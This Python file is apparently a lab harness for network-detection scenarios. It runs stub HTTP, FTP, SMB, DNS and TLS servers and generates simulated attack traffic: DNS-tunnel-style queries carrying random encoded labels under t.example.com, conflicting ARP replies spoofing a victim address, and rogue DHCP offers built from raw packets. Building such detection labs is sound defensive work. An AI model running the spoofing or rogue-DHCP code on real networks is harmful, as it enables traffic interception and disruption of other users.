"""What the server of the scenarios listens with, and the attackers that are not tools of Debian: servers.py PART ARGUMENTS."""
import base64, random, socket, socketserver, ssl, struct, sys, threading, time


def serve(port, answer, kind=socketserver.ThreadingTCPServer):
    class Handler(socketserver.BaseRequestHandler):
        def handle(self):
            try:
                answer(self.request, self.client_address)
            except OSError:
                pass

    kind.allow_reuse_address = True
    server = kind(("0.0.0.0", port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()


def http(conn, _):
    conn.recv(65536)
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nwait")
    conn.close()


def ftp(conn, _):
    conn.sendall(b"220 files\r\n")
    for line in conn.makefile("rb"):
        word = line.split()[0].upper()
        if word == b"USER":
            conn.sendall(b"331 password\r\n")
        elif word == b"PASS":
            conn.sendall(b"530 Login incorrect.\r\n")
        else:
            conn.sendall(b"221 bye\r\n")
            return


def smb(conn, _):
    conn.recv(65536)
    # a refusal in the words of SMB2, enough of an answer
    body = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ16s", 64, 0, 0xC00000BB, 0, 1, 1, 0, 0, 0, 0, 0, b"") + struct.pack("<HHIB", 9, 0, 0, 0)
    conn.sendall(struct.pack(">I", len(body)) + body)
    conn.close()


def dns(request, address):
    data, sock = request
    end = 12
    while data[end]:
        end += data[end] + 1
    question = data[12 : end + 5]
    text = base64.b64encode(random.Random(len(data)).randbytes(90))
    answer = b"\xc0\x0c\x00\x10\x00\x01\x00\x00\x00\x00" + struct.pack(">HB", len(text) + 1, len(text)) + text
    sock.sendto(data[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + question + answer, address)


def server(certificate, key):
    for port in (80, 8080):
        serve(port, http)
    serve(21, ftp)
    serve(445, smb)
    serve(53, dns, socketserver.ThreadingUDPServer)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    context.maximum_version = ssl.TLSVersion.TLSv1_2  # later versions hide the certificate

    def tls(conn, address):
        http(context.wrap_socket(conn, server_side=True), address)

    serve(443, tls)
    print("ready", flush=True)
    time.sleep(600)


def tunnel(address):
    """Data in names, an answer each, as the programs for it do."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1)
    rng = random.Random(7)
    for n in range(150):
        label = base64.b32encode(rng.randbytes(24)).decode().rstrip("=").lower()
        name = b"".join(bytes([len(part)]) + part.encode() for part in (label, "t", "example", "com"))
        sock.sendto(struct.pack(">HHHHHH", n, 0x100, 1, 0, 0, 0) + name + b"\0\0\x10\0\x01", (address, 53))
        sock.recv(4096)
        time.sleep(0.01)


def spoof(interface, victim):
    """Says of an address that it is here, while its owner says so too."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((interface, 0))
    ip = socket.inet_aton(victim)
    for n in range(6):
        for mac in (b"\x02\0\0\0\0\x01", b"\x02\0\0\0\0\x66"):
            arp = struct.pack(">HHBBH", 1, 0x800, 6, 4, 2) + mac + ip + b"\xff" * 6 + ip
            sock.send(b"\xff" * 6 + mac + b"\x08\x06" + arp)
            time.sleep(0.02)


def dhcp(interface):
    """Two servers offer an address for the same question."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((interface, 0))
    for last in (1, 66):
        own = socket.inet_aton(f"10.99.7.{last}")
        boot = struct.pack(">BBBBIHH4s4s4s4s16s64s128s", 2, 1, 6, 0, 0x1234, 0, 0, b"", socket.inet_aton("10.99.7.77"), own, b"", b"\x02\0\0\0\0\x77", b"", b"")
        boot += b"\x63\x82\x53\x63\x35\x01\x02\x36\x04" + own + b"\x33\x04\0\0\x0e\x10\xff"
        udp = struct.pack(">HHHH", 67, 68, 8 + len(boot), 0) + boot
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, own, b"\xff" * 4)
        total = sum(struct.unpack(">10H", head))
        total = (total & 0xFFFF) + (total >> 16)
        total = (total & 0xFFFF) + (total >> 16)
        head = head[:10] + struct.pack(">H", ~total & 0xFFFF) + head[12:]
        sock.send(b"\xff" * 6 + b"\x02\0\0\0\0" + bytes([last]) + b"\x08\0" + head + udp)
        time.sleep(0.05)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
